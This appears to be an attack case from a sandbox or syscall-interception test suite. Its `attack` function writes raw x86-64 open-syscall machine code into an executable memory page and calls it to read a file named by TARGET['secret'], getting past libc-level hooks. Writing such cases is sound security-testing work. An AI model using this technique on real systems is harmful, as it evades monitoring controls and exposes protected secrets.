"""Opens a file by a `syscall` instruction of its own, past the C library."""

import ctypes
import mmap
import os


def attack(A):
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    # mov eax, 2 (open); xor esi, esi; xor edx, edx; syscall; ret
    page[:12] = bytes.fromhex("b80200000031f631d20f05c3")
    path = ctypes.create_string_buffer(TARGET["secret"].encode())
    descriptor = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(start)(ctypes.addressof(path))
    if descriptor < 0:
        raise OSError(-descriptor, "open")
    return os.read(descriptor, 100).decode()
